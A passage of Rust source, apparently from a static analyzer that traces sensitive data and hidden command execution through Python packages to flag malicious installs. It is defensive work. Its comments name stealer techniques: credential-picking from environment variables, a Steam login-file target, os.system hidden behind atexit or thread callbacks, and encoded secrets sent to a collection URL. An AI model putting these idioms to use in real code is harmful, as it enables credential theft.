    pub fn saved_file_ending(&self, endings: &[String]) -> Option<&SavedFile> {
        self.saved_files.iter().find(|saved| {
            let path = saved.path.replace('\\', "/");
            endings.iter().any(|ending| path.ends_with(ending.as_str()))
        })
    }

    /// The first saved file whose folded path `command` names, wherever in the module it was
    /// saved (for [`PendingStart`]s, after the walk).
    pub fn saved_file_named_in(&self, command: &str) -> Option<&SavedFile> {
        self.saved_files.iter().find(|saved| {
            saved_file_needle(&saved.path).is_some_and(|needle| starts_named(command, needle))
        })
    }

    /// Keeps a replaced library function for [`Checker::take_patches`] (at most 64).
    pub fn note_patch(&mut self, patch: rules::api_hijack::PendingPatch) {
        if self.pending_patches.len() < 64 {
            self.pending_patches.push(patch);
        }
    }

    /// The replacements noted so far, handed over once.
    pub fn take_patches(&mut self) -> Vec<rules::api_hijack::PendingPatch> {
        std::mem::take(&mut self.pending_patches)
    }

    /// True when `name` is a function the module defines at its top level.
    pub fn is_module_function(&self, name: &str) -> bool {
        self.functions.contains_key(name)
    }

    /// The `def` line of the module-level function `name` (the scope of its findings).
    pub fn module_function_line(&self, name: &str) -> Option<u32> {
        let function = self.functions.get(name)?;
        Some(self.position(function.range()).0)
    }

    /// The module's whole source text.
    pub fn module_text(&self) -> &str {
        self.text
    }

    /// The source text of the module-level function `name`.
    pub fn module_function_text(&self, name: &str) -> Option<&str> {
        let function = self.functions.get(name)?;
        self.text.get(function.range().to_std_range())
    }

    /// Keeps a process start for [`Checker::take_pending_starts`] (at most [`MAX_SAVED_FILES`]).
    pub fn defer_start(&mut self, range: TextRange, qualname: &str, command: &str) {
        if self.pending_starts.len() >= MAX_SAVED_FILES
            || command.len() > 4_096
            || self.pending_starts.iter().any(|p| p.range == range)
        {
            return;
        }
        self.pending_starts.push(PendingStart {
            range,
            qualname: qualname.to_owned(),
            command: command.to_owned(),
            context: self.context(),
            scope: self.current_scope(),
            inline_site: self.inline_site,
        });
    }

    /// The deferred process starts, emptied.
    pub fn take_pending_starts(&mut self) -> Vec<PendingStart> {
        std::mem::take(&mut self.pending_starts)
    }

    /// Records a finding of `rule` at `range` for code that ran in `context` within the body
    /// `scope`, from after the walk (see [`PendingStart`]).
    pub fn report_at(
        &mut self,
        rule: &'static Rule,
        start: &PendingStart,
        message: String,
        severity: f64,
        tags: Vec<&'static str>,
    ) {
        let (line, column) = self.position(start.range);
        let message = match start.inline_site {
            Some(site) => format!("{message}, through the call at line {site}"),
            None => message,
        };
        if self.findings.iter().any(|f| {
            f.rule == rule.id && f.line == line && f.column == column && f.message == message
        }) {
            return;
        }
        let snippet = self.snippet(start.range);
        self.findings.push(Finding {
            rule: rule.id,
            name: rule.name,
            category: rule.category,
            path: self.path.to_owned(),
            line,
            column,
            snippet,
            message,
            context: start.context,
            severity: severity.clamp(0.0, 1.0),
            tags,
            scope: start.scope,
        });
    }

    /// Records a module or script that a spawned command runs as a program while this file
    /// loads, so the cross-file pass can give it this file's context.
    pub fn note_program(&mut self, command: &str) {
        if !matches!(self.context(), ExecContext::Install | ExecContext::Import) {
            return;
        }
        for module in programs_in_command(command) {
            if self.facts.runs_as_program.len() < 64
                && !self.facts.runs_as_program.contains(&module)
            {
                self.facts.runs_as_program.push(module);
            }
        }
    }

    /// The docstring of the module's function or class `name`, and of its methods for a class.
    pub fn docstrings_of(&self, name: &str) -> Vec<&'s str> {
        let docstring = |body: &'s [Stmt]| match body.first() {
            Some(Stmt::Expr(expr)) => match &*expr.value {
                Expr::StringLiteral(text) => Some(text.value.to_str()),
                _ => None,
            },
            _ => None,
        };
        if let Some(function) = self.functions.get(name) {
            return docstring(&function.body).into_iter().collect();
        }
        let Some(class) = self.classes.get(name) else {
            return Vec::new();
        };
        let methods = class.body.iter().take(256).filter_map(|stmt| match stmt {
            Stmt::FunctionDef(method) => docstring(&method.body),
            _ => None,
        });
        docstring(&class.body).into_iter().chain(methods).collect()
    }

    /// Names of the module's top-level functions and classes, sorted.
    pub fn defined_names(&self) -> Vec<&'s str> {
        let mut names: Vec<&'s str> = self
            .functions
            .keys()
            .chain(self.classes.keys())
            .copied()
            .collect();
        names.sort_unstable();
        names.dedup();
        names
    }

    /// Declares the top-level module names of the package's own files.
    pub fn know_package_modules(&mut self, modules: Vec<String>) {
        self.package_modules = modules;
    }

    /// True when `module` (a top-level name) is one of the package's own modules.
    pub fn is_package_module(&self, module: &str) -> bool {
        self.package_modules.iter().any(|m| m == module)
    }

    /// Declares what other modules pass to this module's functions while loading: each named
    /// function's parameter carries that data whenever its body is walked.
    pub fn receive_passed(&mut self, passed: Vec<PassedSource>) {
        self.passed_in = passed;
    }

    /// Taints the parameters of the module-level function `function` with what other modules
    /// pass to it while loading.
    fn bind_passed_in(&mut self, function: &ast::StmtFunctionDef, class: Option<&str>) {
        let name = function.name.as_str();
        let parameters = &function.parameters;
        // A method called on an instance (`ch.put(path, blob)`) gets the instance first.
        let bound_instance = class.is_some()
            && !function.decorator_list.iter().any(|decorator| {
                matches!(&decorator.expression, Expr::Name(d) if d.id.as_str() == "staticmethod")
            });
        let positional: Vec<&str> = parameters
            .posonlyargs
            .iter()
            .chain(parameters.args.iter())
            .skip(usize::from(bound_instance))
            .map(|p| p.parameter.name.as_str())
            .collect();
        let passed: Vec<(String, SourceRef)> = self
            .passed_in
            .iter()
            .filter(|p| match class {
                // `._ship.Channel().put`: the method of the class, called on an instance.
                Some(class) => p.callee.rsplit_once("().").is_some_and(|(owner, method)| {
                    method == name && owner.rsplit('.').next() == Some(class)
                }),
                None => !p.callee.contains("().") && p.callee.rsplit('.').next() == Some(name),
            })
            .filter_map(|p| {
                let parameter = match &p.slot {
                    ArgSlot::Position(index) => positional.get(*index).map(|n| (*n).to_owned()),
                    ArgSlot::Keyword(keyword) => parameters
                        .iter_non_variadic_params()
                        .any(|q| q.parameter.name.as_str() == keyword)
                        .then(|| keyword.clone()),
                }?;
                let source = SourceRef {
                    label: format!(
                        "{}, passed to {name}() at {}",
                        p.source.label, p.call_location
                    ),
                    passed_in: true,
                    ..p.source.clone()
                };
                Some((parameter, source))
            })
            .collect();
        for (parameter, source) in passed {
            let index = self.push_source(source);
            self.scopes.taint(&parameter, index);
        }
    }

    /// Notes the sensitive data `call` passes to a function this module does not define, while
    /// loading: the package pass hands it to the sibling that defines the function.
    fn note_passed_sources(&mut self, call: &'s ast::ExprCall) {
        if self.facts.passed_sources.len() >= MAX_PASSED_SOURCES
            || !matches!(self.context(), ExecContext::Install | ExecContext::Import)
            || (call.arguments.args.is_empty() && call.arguments.keywords.is_empty())
        {
            return;
        }
        if let Expr::Name(name) = &*call.func
            && self.scopes.alias(name.id.as_str()).is_none()
        {
            // The module's own function (walked for this call by `inline_call`), or a builtin.
            return;
        }
        let Some(callee) = self.scopes.qualname(&call.func) else {
            return;
        };
        let slots = call
            .arguments
            .args
            .iter()
            .enumerate()
            .filter(|(_, arg)| !arg.is_starred_expr())
            .map(|(index, arg)| (ArgSlot::Position(index), arg))
            .chain(call.arguments.keywords.iter().filter_map(|k| {
                k.arg
                    .as_ref()
                    .map(|a| (ArgSlot::Keyword(a.as_str().to_owned()), &k.value))
            }))
            .take(16);
        let mut found = Vec::new();
        for (slot, arg) in slots {
            if arg.is_literal_expr() {
                continue;
            }
            if let Some(index) = self.strongest_source_in(arg)
                && let Some(source) = self.sources.get(index)
                && crate::exports::worth_following(source.kind)
            {
                found.push((slot, source.clone()));
            }
        }
        let call_location = self.location(call.range());
        for (slot, source) in found {
            if self.facts.passed_sources.len() < MAX_PASSED_SOURCES {
                self.facts.passed_sources.push(PassedSource {
                    callee: callee.clone(),
                    slot,
                    call_location: call_location.clone(),
                    source,
                });
            }
        }
    }

    /// Declares the module's test-runner plugin hooks (`pytest_configure`): every test run in
    /// the environment calls them.
    pub fn declare_plugin_hooks(&mut self, hooks: Vec<String>) {
        self.plugin_hooks = hooks;
    }

    /// True inside a test-runner plugin hook (see [`Self::declare_plugin_hooks`]).
    pub fn in_plugin_hook(&self) -> bool {
        self.plugin_hook_depth > 0
    }

    /// Declares functions that another module calls while loading, in context `context`.
    pub fn seed(&mut self, functions: Vec<String>, context: ExecContext) {
        self.seeds = functions;
        self.seed_context = Some(context);
    }

    /// The execution context of the node being visited.
    pub fn context(&self) -> ExecContext {
        if let Some(context) = self.inline_context
            && self.inline_nested_definitions == 0
        {
            return context;
        }
        if self.maintainer_branch_depth > 0 && self.layer_context.is_none() {
            return ExecContext::Runtime;
        }
        if self.main_guard_depth > 0
            && !self.run_as_program
            && !matches!(self.role, FileRole::Setup | FileRole::Pth)
            && self.layer_context.is_none()
        {
            return match self.role {
                FileRole::TestOrDocs => ExecContext::TestOrDocs,
                _ => ExecContext::Runtime,
            };
        }
        let own = self.layer_context.unwrap_or_else(|| {
            let role_context = if self.command_line_script {
                ExecContext::Runtime
            } else {
                self.role.top_level_context()
            };
            self.imported_context
                .map_or(role_context, |imported| imported.min(role_context))
        });
        if self.function_depth == 0 {
            own
        } else if self.author_command_depth > 0 && self.layer_context.is_none() {
            ExecContext::Runtime
        } else if self.function_depth == self.eager_depth {
            // The earliest of the two: install time if setup.py calls it, else the module's own.
            self.seed_context.map_or(own, |seed| seed.min(own))
        } else {
            match self.layer_context {
                Some(ExecContext::Install) => ExecContext::Install,
                _ => self.role.function_context(),
            }
        }
    }

    /// True while walking a layer that was a plain string literal in its carrier (not decoded
    /// or assembled): its text was as readable as the file itself.
    pub fn in_plain_literal_layer(&self) -> bool {
        self.plain_literal_layer
    }

    /// Marks the walk as one of a plain-literal layer.
    pub fn set_plain_literal_layer(&mut self, plain: bool) {
        self.plain_literal_layer = plain;
    }

    /// True when the module is a program its user starts (it reads its command line while
    /// loading, serves forever, is a sample among package data, or parses options under a
    /// main guard), not only a module the package loads.
    pub fn is_started_by_hand(&self) -> bool {
        self.command_line_script || self.program_with_options
    }

    /// True at module level (not inside a function).
    pub fn at_top_level(&self) -> bool {
        self.function_depth == 0
    }

    /// True inside a setup.py whose code runs on install.
    pub fn in_setup_script(&self) -> bool {
        self.role == FileRole::Setup
    }

    /// 1-based line and column of a range's start.
    pub fn position(&self, range: TextRange) -> (u32, u32) {
        self.lines.position(self.text, range.start().to_u32())
    }

    /// The shortened source line at a range, for evidence.
    pub fn snippet(&self, range: TextRange) -> String {
        let (line, column) = self.position(range);
        let text = self.lines.line_text(self.text, line);
        crate::text::window(text, column as usize, 160)
    }

    /// `path:line` of a range.
    pub fn location(&self, range: TextRange) -> String {
        format!("{}:{}", self.path, self.position(range).0)
    }

    /// Records a finding of `rule` at `range`.
    pub fn report(
        &mut self,
        rule: &'static Rule,
        range: TextRange,
        message: String,
        severity: f64,
        tags: Vec<&'static str>,
    ) {
        let (line, column) = self.position(range);
        let mut message = message;
        if let Some(site) = self.inline_site {
            // The plain walk of the body may already hold the same evidence, without constants.
            if self.findings.iter().any(|f| {
                f.rule == rule.id && f.line == line && f.column == column && f.message == message
            }) {
                return;
            }
            message = format!("{message}, through the call at line {site}");
        }
        let snippet = self.snippet(range);
        self.findings.push(Finding {
            rule: rule.id,
            name: rule.name,
            category: rule.category,
            path: self.path.to_owned(),
            line,
            column,
            snippet,
            message,
            context: self.context(),
            severity: severity.clamp(0.0, 1.0),
            tags,
            scope: self.current_scope(),
        });
    }

    /// Registers a source of sensitive data and returns its index.
    pub fn add_source(&mut self, label: String, range: TextRange, kind: SourceKind) -> usize {
        let location = self.location(range);
        self.push_source(SourceRef {
            label,
            location,
            kind,
            encodings: 0,
            passed_in: false,
        })
    }

    /// The index of `source`, kept once per read and label.
    fn push_source(&mut self, source: SourceRef) -> usize {
        if let Some(existing) = self
            .sources
            .iter()
            .position(|s| s.location == source.location && s.label == source.label)
        {
            return existing;
        }
        self.sources.push(source);
        self.sources.len() - 1
    }

    /// The source at `index` encoded `times` more: same data, same read, a label that says so.
    fn encoded_source(&mut self, index: usize, times: u8) -> usize {
        let Some(source) = self.sources.get(index).cloned() else {
            return index;
        };
        let encodings = source.encodings.saturating_add(times);
        let base = match source.label.rsplit_once(", encoded ") {
            Some((base, _)) if source.encodings > 0 => base,
            _ => source.label.as_str(),
        };
        let label = match encodings {
            1 => format!("{base}, encoded once"),
            2 => format!("{base}, encoded twice"),
            n => format!("{base}, encoded {n} times"),
        };
        self.push_source(SourceRef {
            label,
            location: source.location,
            kind: source.kind,
            encodings,
            passed_in: source.passed_in,
        })
    }

    /// How many encodings a call applies to what it is given: one for `base64.b64encode`,
    /// what the module's own encoding helper applies (see [`crate::encoders`]), else none.
    fn encodings_of_call(&self, call: &ast::ExprCall, qualname: Option<&str>) -> u8 {
        if qualname.is_some_and(crate::encoders::is_encoder) {
            return 1;
        }
        if self.encoding_functions.is_empty() {
            return 0;
        }
        let name = match &*call.func {
            Expr::Name(name) => name.id.as_str(),
            Expr::Attribute(attribute) if crate::resolve::is_self_attribute(attribute) => {
                attribute.attr.as_str()
            }
            _ => return 0,
        };
        self.encoding_functions.get(name).copied().unwrap_or(0)
    }

    /// How much the source at `index` says (see [`SourceKind::strength`]); 0 for none.
    fn source_strength(&self, index: usize) -> u8 {
        self.sources.get(index).map_or(0, |s| s.kind.strength())
    }

    /// Keeps `source` in `best` when it says more than what is kept; true once nothing can say
    /// more (a secret), so the search may stop.
    fn keep_strongest(&mut self, source: usize, best: &mut Option<usize>) -> bool {
        let strength = self.source_strength(source);
        if strength == SourceKind::Network.strength() {
            self.outranked_remote.get_or_insert(source);
        }
        if best.is_none_or(|kept| self.source_strength(kept) < strength) {
            *best = Some(source);
        }
        strength >= SourceKind::Secret.strength()
    }

    /// Network data that [`Checker::source_in`] met in its last expression besides the source
    /// it answered with (`None` when that answer is itself the network data).
    fn remote_besides(&self, answer: Option<usize>) -> Option<usize> {
        self.outranked_remote
            .filter(|remote| Some(*remote) != answer)
    }

    /// The strongest source whose data reaches `expr`: a tainted name or a source read inside
    /// it (see [`SourceKind::strength`]).
    pub fn source_in(&mut self, expr: &Expr) -> Option<usize> {
        self.outranked_remote = None;
        // Comprehension loop names read on the way get their domains for this search only.
        let domains_before = self.loop_domains.len();
        let answer = self.strongest_source_in(expr);
        self.loop_domains.truncate(domains_before);
        self.outranked_remote = self.remote_besides(answer);
        answer
    }

    /// The network data reaching `expr` when that is its strongest source (see
    /// [`Checker::source_in`]): a response, a received message.
    pub fn network_source_in(&mut self, expr: &Expr) -> Option<SourceRef> {
        self.source_in(expr)
            .and_then(|index| self.sources.get(index).cloned())
            .filter(|source| source.kind == SourceKind::Network)
    }

    /// Records the range of a string literal written over several lines that is wide enough to
    /// hold an off-screen run of blanks.
    fn note_multiline_string(&mut self, range: TextRange) {
        let source = self
            .text
            .get(range.start().to_usize()..range.end().to_usize())
            .unwrap_or("");
        if source.len() > rules::obfuscation_layout::OFFSCREEN_COLUMN
            && self.multiline_strings.len() < MAX_MULTILINE_STRINGS
            && memchr::memchr(b'\n', source.as_bytes()).is_some()
        {
            self.multiline_strings.push(range);
        }
    }

    /// The source a comprehension keeping only the credential-named environment variables
    /// reads (see [`rules::sources::credential_picking`]).
    fn picked_credentials(
        &mut self,
        comprehension: &Expr,
        generators: &[ast::Comprehension],
    ) -> Option<usize> {
        let first = generators.first()?;
        let words = rules::sources::credential_picking(self, &first.iter, &first.ifs)?;
        Some(self.picked_credentials_source(&words, comprehension.range()))
    }

    /// The source of environment variables picked by the credential `words` at `range`.
    fn picked_credentials_source(&mut self, words: &str, range: TextRange) -> usize {
        self.add_source(
            format!(
                "{}{})",
                rules::sources::PICKED_CREDENTIALS,
                crate::text::shorten(words, 60)
            ),
            range,
            SourceKind::Secret,
        )
    }

    /// Records what each comprehension loop name can be when the collection it iterates
    /// folds to constant texts: `{n: getattr(builtins, n) for n in SAFE_NAMES}` reaches only
    /// those, `{k: os.environ[k] for k in ("OPENAI_API_KEY", …)}` reads those variables.
    fn push_loop_domains(&mut self, generators: &[ast::Comprehension]) {
        for generator in generators.iter().take(8) {
            if let Expr::Name(target) = &generator.target {
                self.push_loop_domain(target.id.as_str(), &generator.iter);
            }
        }
    }

    /// The call `operator.methodcaller('system', cmd)(os)` makes, `os.system(cmd)`, for a
    /// method caller made in place or bound to a name: calling it on an object calls that
    /// object's method with the arguments it holds.
    fn method_caller_call(&self, call: &'s ast::ExprCall) -> Option<ast::ExprCall> {
        let maker = match &*call.func {
            Expr::Call(maker)
                if self.scopes.qualname(&maker.func).as_deref()
                    == Some("operator.methodcaller") =>
            {
                maker
            }
            // The map is looked into first: it is empty in almost every module, and this runs
            // for every call.
            Expr::Name(name) => {
                let maker = *self.method_callers.get(name.id.as_str())?;
                if self.scopes.qualname(&call.func).as_deref() != Some("operator.methodcaller()") {
                    return None;
                }
                maker
            }
            _ => return None,
        };
        let [receiver] = call.arguments.args.as_ref() else {
            return None;
        };
        let method = self.scopes.fold_str(maker.arguments.args.first()?)?;
        if method.is_empty() || !method.chars().all(|c| c.is_alphanumeric() || c == '_') {
            return None;
        }
        let func = Expr::Attribute(ast::ExprAttribute {
            node_index: ast::AtomicNodeIndex::default(),
            range: call.func.range(),
            value: Box::new(receiver.clone()),
            attr: ast::Identifier::new(method, call.func.range()),
            ctx: ast::ExprContext::Load,
        });
        Some(ast::ExprCall {
            node_index: ast::AtomicNodeIndex::default(),
            range_start: call.range().start(),
            func: Box::new(func),
            arguments: ast::Arguments {
                // The original call's span, so findings point at `run(os)`.
                range: call.arguments.range(),
                node_index: ast::AtomicNodeIndex::default(),
                args: maker.arguments.args.iter().skip(1).cloned().collect(),
                keywords: maker.arguments.keywords.clone(),
            },
        })
    }

    /// The call a callback registration makes later with the arguments it holds:
    /// `atexit.register(os.system, cmd)`, `weakref.finalize(obj, subprocess.call, cmd)`,
    /// `Thread(target=os.system, args=(cmd,))`, `Timer(5, os.system, [cmd])`,
    /// `loop.call_later(1, os.system, cmd)` all call `os.system(cmd)`. Only for library and
    /// built-in callables; the module's own functions are walked where they are called.
    /// Returns the call and the qualified name of what it calls.
    fn deferred_call(
        &self,
        call: &'s ast::ExprCall,
        qualname: &str,
    ) -> Option<(ast::ExprCall, String)> {
        let last = qualname.rsplit('.').next().unwrap_or(qualname);
        let args = &call.arguments.args;
        // `args=(cmd,)` are the arguments; `args=argv` spreads an unknown sequence.
        let sequence = |expr: Option<&Expr>| -> Option<Vec<Expr>> {
            match expr {
                None => Some(Vec::new()),
                Some(
                    Expr::Tuple(ast::ExprTuple { elts, .. })
                    | Expr::List(ast::ExprList { elts, .. }),
                ) => Some(elts.clone()),
                Some(other) => Some(vec![Expr::Starred(ast::ExprStarred {
                    node_index: ast::AtomicNodeIndex::default(),
                    range: other.range(),
                    value: Box::new(other.clone()),
                    ctx: ast::ExprContext::Load,
                })]),
            }
        };
        let (func, positional, keywords): (&Expr, Vec<Expr>, Vec<ast::Keyword>) = match qualname {
            "atexit.register" => (
                args.first()?,
                args.iter().skip(1).cloned().collect(),
                call.arguments.keywords.to_vec(),
            ),
            // `operator.call(f, *args)` calls `f` now, under another name.
            "operator.call" => (
                args.first()?,
                args.iter().skip(1).cloned().collect(),
                call.arguments.keywords.to_vec(),
            ),
            "weakref.finalize" => (
                args.get(1)?,
                args.iter().skip(2).cloned().collect(),
                call.arguments.keywords.to_vec(),
            ),
            _ if matches!(last, "Thread" | "Process")
                && (qualname.starts_with("threading")
                    || qualname.starts_with("multiprocessing")) =>
            {
                (
                    rules::keyword(call, "target")?,
                    sequence(rules::keyword(call, "args"))?,
                    Vec::new(),
                )
            }
            "threading.Timer" => (
                args.get(1).or_else(|| rules::keyword(call, "function"))?,
                sequence(args.get(2).or_else(|| rules::keyword(call, "args")))?,
                Vec::new(),
            ),
            "_thread.start_new_thread" | "thread.start_new_thread" => {
                (args.first()?, sequence(args.get(1))?, Vec::new())
            }
            _ if matches!(last, "call_later" | "call_at") => (
                args.get(1)?,
                args.iter().skip(2).cloned().collect(),
                Vec::new(),
            ),
            // `ExitStack().callback(os.system, cmd)` runs when the stack closes.
            _ if qualname.starts_with("contextlib.")
                && qualname.contains("ExitStack()")
                && matches!(last, "callback" | "push_async_callback") =>
            {
                (
                    args.first()?,
                    args.iter().skip(1).cloned().collect(),
                    call.arguments.keywords.to_vec(),
                )
            }
            // `scheduler.enter(delay, priority, action, argument=(…), kwargs={…})`.
            _ if qualname.starts_with("sched.scheduler()")
                && matches!(last, "enter" | "enterabs") =>
            {
                (
                    args.get(2).or_else(|| rules::keyword(call, "action"))?,
                    sequence(args.get(3).or_else(|| rules::keyword(call, "argument")))?,
                    keywords_of(args.get(4).or_else(|| rules::keyword(call, "kwargs"))),
                )
            }
            _ if matches!(last, "call_soon" | "call_soon_threadsafe" | "submit") => (
                args.first()?,
                args.iter().skip(1).cloned().collect(),
                Vec::new(),
            ),
            _ => return None,
        };
        let target = self.scopes.qualname(func)?;
        if !(target.contains('.') || is_builtin_sink(&target)) {
            return None;
        }
        let deferred = ast::ExprCall {
            node_index: ast::AtomicNodeIndex::default(),
            range_start: call.range().start(),
            func: Box::new(func.clone()),
            arguments: ast::Arguments {
                range: call.arguments.range(),
                node_index: ast::AtomicNodeIndex::default(),
                args: positional.into_boxed_slice(),
                keywords: keywords.into_iter().collect(),
            },
        };
        Some((deferred, target))
    }

    /// The address of a request object built from a known address
    /// (`urllib.request.Request('https://…/collect', data=…)`), as far as it folds.
    fn request_object_address(&self, value: &Expr) -> Option<String> {
        let Expr::Call(call) = value else {
            return None;
        };
        let qualname = self.scopes.qualname(&call.func)?;
        if !matches!(
            qualname.as_str(),
            "urllib.request.Request" | "urllib2.Request" | "six.moves.urllib.request.Request"
        ) {
            return None;
        }
        let target = rules::network::target_arg(call)?;
        rules::partial_text(self, target).filter(|url| url.len() <= 4_096 && url.contains("://"))
    }

    /// Records the constant texts `iterable` folds to as what loop name `name` can be.
    fn push_loop_domain(&mut self, name: &str, iterable: &Expr) {
        if self.loop_domains.len() >= 64 {
            return;
        }
        if self.lists_attribute_names(iterable) {
            self.loop_domains
                .push((name.to_owned(), vec![EVERY_ATTRIBUTE.to_owned()]));
            return;
        }
        let Some(crate::fold::Value::Seq(values)) = self.scopes.fold(iterable) else {
            return;
        };
        let texts: Vec<String> = values
            .iter()
            .take(512)
            .filter_map(crate::fold::Value::as_text)
            .collect();
        if texts.len() == values.len() {
            self.loop_domains.push((name.to_owned(), texts));
        }
    }

    /// `dir(x)`, `vars(x)`, `x.__dict__` (or its keys), possibly sorted or listed.
    fn lists_attribute_names(&self, iterable: &Expr) -> bool {
        let mut expr = iterable;
        for _ in 0..4 {
            match expr {
                Expr::Call(call) => {
                    let name = self.scopes.qualname(&call.func);
                    match name.as_deref() {
                        Some("sorted" | "list" | "set" | "reversed" | "tuple")
                            if call.arguments.args.len() == 1 =>
                        {
                            if let Some(inner) = call.arguments.args.first() {
                                expr = inner;
                                continue;
                            }
                            return false;
                        }
                        Some("dir" | "vars") => return true,
                        _ => {}
                    }
                    if let Expr::Attribute(method) = &*call.func
                        && method.attr.as_str() == "keys"
                    {
                        expr = &method.value;
                        continue;
                    }
                    return false;
                }
                Expr::Attribute(attribute) => return attribute.attr.as_str() == "__dict__",
                _ => return false,
            }
        }
        false
    }

    /// `for name, code in table.items()` over a constant table: each name takes the texts at
    /// its position of the rows.
    fn push_unpacked_domains(&mut self, targets: &[Expr], iterable: &Expr) {
        let Some(crate::fold::Value::Seq(rows)) = self.scopes.fold(iterable) else {
            return;
        };
        for (position, target) in targets.iter().enumerate().take(8) {
            let Expr::Name(target) = target else {
                continue;
            };
            let texts: Option<Vec<String>> = rows
                .iter()
                .take(512)
                .map(|row| match row {
                    crate::fold::Value::Seq(items) => items.get(position)?.as_text(),
                    _ => None,
                })
                .collect();
            if let Some(texts) = texts
                && !texts.is_empty()
                && self.loop_domains.len() < 64
            {
                self.loop_domains
                    .push((target.id.as_str().to_owned(), texts));
            }
        }
    }

    fn strongest_source_in(&mut self, expr: &Expr) -> Option<usize> {
        // Each node with the comprehension frame it is read in (0: none); a frame lists the
        // names its `for` binds and its parent, so `[b ^ k for b in blob]` reads `blob`, not
        // whatever an outer `b` held.
        let mut stack: Vec<(&Expr, usize)> = vec![(expr, 0)];
        // Frame `k` is `frames[k - 1]`; empty (no allocation) unless a comprehension is read.
        let mut frames: Vec<(Vec<&str>, usize)> = Vec::new();
        let mut budget = 4_000usize;
        // Reading a file is the weakest source: a read of a credentials handle must report the
        // credentials, so file contents are only the answer when nothing stronger is inside.
        // Decoding says how data was hidden, not where it came from: `b64decode(response)` is
        // still the response, so decoded data answers only when no origin is found inside it.
        let mut best: Option<usize> = None;
        let mut returned_fallback: Option<usize> = None;
        while let Some((node, frame)) = stack.pop() {
            let Some(left) = budget.checked_sub(1) else {
                break;
            };
            budget = left;
            match node {
                Expr::Name(name) => {
                    if frame != 0 && bound_by_comprehension(&frames, frame, name.id.as_str()) {
                        continue;
                    }
                    if let Some(remote) = self.scopes.remote_taint_of(name.id.as_str()) {
                        self.outranked_remote.get_or_insert(remote);
                    }
                    if let Some(source) = self.scopes.taint_of(name.id.as_str())
                        && self.keep_strongest(source, &mut best)
                    {
                        return best;
                    }
                }
                // `os.path.join(steam, 'config', 'loginusers.vdf')`: a joined path naming a
                // stealer's target store is one, as the literal would be.
                Expr::Call(_)
                    if crate::fold::is_path_join(node)
                        && let Some(text) = rules::partial_text(self, node)
                        && let Some(label) = rules::sources::secret_path_label(&text)
                        && rules::secrets_access::is_stealer_target(label) =>
                {
                    let source = self.add_source(
                        format!("the {label} `{}`", crate::text::shorten(&text, 60)),
                        node.range(),
                        SourceKind::Secret,
                    );
                    if self.keep_strongest(source, &mut best) {
                        return best;
                    }
                }
                Expr::Call(call) => {
                    if let Some(&source) = self.inlined_returns.get(&call.range()) {
                        returned_fallback.get_or_insert(source);
                    }
                    let returned = match &*call.func {
                        _ if self.return_taints.is_empty() => None,
                        Expr::Name(name) => self.return_taints.get(name.id.as_str()),
                        Expr::Attribute(attribute)
                            if crate::resolve::is_self_attribute(attribute) =>
                        {
                            self.return_taints
                                .get(&format!(".{}", attribute.attr.as_str()))
                        }
                        _ => None,
                    };
                    // A helper that decodes what it is handed (`def b64d(s): return
                    // b64decode(s)`) returns hidden data only when handed a constant:
                    // `b64d('dHlwZS…')`, not `decode_if_base64(args.command)`.
                    let usable_return = |source: &usize| {
                        !self.opaque_decodes.contains(source)
                            || call.arguments.args.iter().any(|a| self.fold(a).is_some())
                    };
                    let returned = returned.filter(|source| usable_return(source));
                    // What the callee returns only answers when nothing in the call itself
                    // does: `run(decrypt(blob))` is about the blob, whatever `run` returns.
                    if let Some(&source) = returned {
                        returned_fallback.get_or_insert(source);
                    }
                    let qualname = self.scopes.qualname(&call.func);
                    // `b64encode(b64encode(secret))`: the data inside, encoded; the count is
                    // kept with the source so an output sink can tell masking evasion.
                    let encodings = self.encodings_of_call(call, qualname.as_deref());
                    if encodings > 0 && self.encoding_nesting < 4 {
                        self.encoding_nesting += 1;
                        let mut inner = None;
                        for arg in call
                            .arguments
                            .args
                            .iter()
                            .chain(call.arguments.keywords.iter().map(|k| &k.value))
                            .take(8)
                        {
                            if let Some(found) = self.strongest_source_in(arg)
                                && self.keep_strongest(found, &mut inner)
                            {
                                break;
                            }
                        }
                        self.encoding_nesting -= 1;
                        if let Some(inner) = inner {
                            let answer = match self.sources.get(inner).map(|s| s.kind) {
                                Some(
                                    SourceKind::Secret
                                    | SourceKind::Environment
                                    | SourceKind::SystemInfo,
                                ) => self.encoded_source(inner, encodings),
                                _ => inner,
                            };
                            if self.keep_strongest(answer, &mut best) {
                                return best;
                            }
                        }
                        continue;
                    }
                    let mut descend_into_callee = true;
                    if let Some(qualname) = qualname {
                        if returned.is_none()
                            && !self.return_taints.is_empty()
                            && let Some(&source) = self.return_taints.get(&qualname)
                            && usable_return(&source)
                        {
                            returned_fallback.get_or_insert(source);
                        }
                        if matches!(
                            qualname.as_str(),
                            "os.getenv" | "os.environ.get" | "os.environ.pop"
                        ) && let Some(source) = call
                            .arguments
                            .args
                            .first()
                            .and_then(|k| self.stashed_in_env(k))
                            && self.keep_strongest(source, &mut best)
                        {
                            return best;
                        }
                        if let Some((label, kind)) =
                            rules::sources::classify_call(self, &qualname, call)
                        {
                            let source = self.add_source(label, call.range(), kind);
                            if kind == SourceKind::Decoded
                                && let Some(input) = call.arguments.args.first()
                            {
                                if self.opaque_input(input)
                                    && self.opaque_decodes.len() < MAX_DECODE_MARKS
                                {
                                    self.opaque_decodes.insert(source);
                                }
                                if self.constant_input(input) {
                                    if self.constant_decodes.len() < MAX_DECODE_MARKS {
                                        self.constant_decodes.insert(source);
                                    }
                                } else if (!self.opaque_input(input)
                                    || !self.roots_in_parameter(input))
                                    && self.received_decodes.len() < MAX_DECODE_MARKS
                                {
                                    self.received_decodes.insert(source);
                                }
                            }
                            if self.keep_strongest(source, &mut best) {
                                return best;
                            }
                            // A call that reads an origin returns that data, not its arguments
                            // (`post(url, json=secret)` answers with a response); decoding and
                            // file reads are looked through to where their input came from.
                            if kind.strength() >= SourceKind::STRONG {
                                continue;
                            }
                        }
                        // `os.environ.get('HOME')` reads one ordinary variable, not the environment.
                        // A compiled pattern's match is a piece of the text it is given, not of
                        // the pattern: `CONSTANT_RE.match(content)` carries `content` only.
                        // `os.environ.get(KEY).encode()` is a method of what the read returned,
                        // whose receiver is looked into.
                        descend_into_callee = !((qualname.starts_with("os.environ.")
                            && !qualname.contains("()"))
                            || qualname == "os.getenv"
                            || is_pattern_method(&qualname));
                    }
                    if descend_into_callee {
                        stack.push((&call.func, frame));
                    }
                    stack.extend(call.arguments.args.iter().map(|e| (e, frame)));
                    stack.extend(call.arguments.keywords.iter().map(|k| (&k.value, frame)));
                }
                Expr::Attribute(attribute) => {
                    if let Some(qualname) = self.scopes.qualname(node)
                        && let Some((label, kind)) =
